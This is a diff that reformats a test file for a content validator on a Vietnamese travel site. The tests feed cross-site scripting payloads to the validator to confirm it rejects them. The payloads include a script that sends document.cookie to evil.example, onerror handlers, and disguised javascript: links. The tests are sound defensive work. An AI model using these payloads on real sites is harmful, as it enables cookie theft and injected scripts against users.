@@ -59,7 +59,9 @@ const messages = async () => (await validateContent(root)).map(formatProblem);
 /** A real JPEG: the build reads a picture's bytes, not its name. */
 let jpeg: Buffer;
 beforeAll(async () => {
-  jpeg = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#2a7' } }).jpeg().toBuffer();
+  jpeg = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#2a7' } })
+    .jpeg()
+    .toBuffer();
 });
 
 beforeEach(() => {
@@ -79,7 +81,9 @@ describe('validateContent', () => {
   test('an incentive linking a document under public/ that is not there is reported', async () => {
     write('incentives/vi/nghi-quyet-296.mdx', incentive('/documents/296-2019.pdf'));
     expect(await messages()).toEqual([
-      expect.stringMatching(/incentives\/vi\/nghi-quyet-296\.mdx \[locale: vi\] field "documentUrl": "\/documents\/296-2019\.pdf" is not a file under public\//),
+      expect.stringMatching(
+        /incentives\/vi\/nghi-quyet-296\.mdx \[locale: vi\] field "documentUrl": "\/documents\/296-2019\.pdf" is not a file under public\//,
+      ),
     ]);
     mkdirSync(path.join(base, 'public/documents'), { recursive: true });
     writeFileSync(path.join(base, 'public/documents/296-2019.pdf'), '%PDF-1.4');
@@ -224,18 +228,29 @@ Text.
 
     test('a <script> element in the body is reported with its line', async () => {
       withBody('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
-      expect(await messages()).toEqual([
-        'destinations/vi/vuon-quoc-gia-tram-chim.mdx [locale: vi] field "body": at line 22: the HTML element <script> is not allowed in content',
-      ].map((m) => expect.stringContaining(m)));
+      expect(await messages()).toEqual(
+        ['destinations/vi/vuon-quoc-gia-tram-chim.mdx [locale: vi] field "body": at line 22: the HTML element <script> is not allowed in content'].map((m) =>
+          expect.stringContaining(m),
+        ),
+      );
     });
 
     test('an inline event handler is named before the element it sits on', async () => {
       withBody('<img src=x onerror=alert(1)>');
-      expect(await messages()).toEqual([expect.stringMatching(/\[locale: vi\] field "body": at line 22: the event-handler attribute "onerror" on <img> is not allowed/)]);
+      expect(await messages()).toEqual([
+        expect.stringMatching(/\[locale: vi\] field "body": at line 22: the event-handler attribute "onerror" on <img> is not allowed/),
+      ]);
     });
 
     test('javascript:, vbscript: and data: addresses are refused however disguised', async () => {
-      for (const link of ['[Bản đồ](javascript:alert(1))', '[Bản đồ](JaVa&#09;ScRiPt:alert(1))', '[Bản đồ](&#106;avascript:alert(1))', '<a href="vbscript:x">x</a>', '<a href="&#x6A;avascript:x">x</a>', '[Tải](data:text/html,x)']) {
+      for (const link of [
+        '[Bản đồ](javascript:alert(1))',
+        '[Bản đồ](JaVa&#09;ScRiPt:alert(1))',
+        '[Bản đồ](&#106;avascript:alert(1))',
+        '<a href="vbscript:x">x</a>',
+        '<a href="&#x6A;avascript:x">x</a>',
+        '[Tải](data:text/html,x)',
+      ]) {
         withBody(link);
         const all = await messages();
         expect(all, link).toHaveLength(1);
@@ -268,7 +283,12 @@ Nội dung.
     });
 
     test('markup in frontmatter text is text: Astro escapes it, so it builds', async () => {
-      write(file, good.replace('alt: Sếu đầu đỏ trên đồng cỏ năng', 'alt: "Sếu <img src=x onerror=alert(1)> > 1 tỷ"').replace('title: Vườn quốc gia Tràm Chim', 'title: <SCRIPT>alert(1)</SCRIPT> & "Tràm Chim"'));
+      write(
+        file,
+        good
+          .replace('alt: Sếu đầu đỏ trên đồng cỏ năng', 'alt: "Sếu <img src=x onerror=alert(1)> > 1 tỷ"')
+          .replace('title: Vườn quốc gia Tràm Chim', 'title: <SCRIPT>alert(1)</SCRIPT> & "Tràm Chim"'),
+      );
       expect(await messages()).toEqual([]);
     });
 
@@ -276,7 +296,11 @@ Nội dung.
       write('destinations/vi/vuon-quoc-gia-tram-chim.md', good.replace('Nội dung **đúng**.', '<div>\n<script>alert(1)</script>\n</div>'));
       write(file, good);
       const all = await messages();
-      expect(all).toContainEqual(expect.stringMatching(/destinations\/vi\/vuon-quoc-gia-tram-chim\.md \[locale: vi\] field "body": at line 21: the HTML element <script> is not allowed/));
+      expect(all).toContainEqual(
+        expect.stringMatching(
+          /destinations\/vi\/vuon-quoc-gia-tram-chim\.md \[locale: vi\] field "body": at line 21: the HTML element <script> is not allowed/,
+        ),
+      );
     });
 
     test('prose about JavaScript, code samples, escaped markup and inline tags editors use pass', async () => {
@@ -304,4 +328,3 @@ Nội dung.
     expect((await validateContent(path.resolve('content'))).map(formatProblem)).toEqual([]);
   });
 });
-
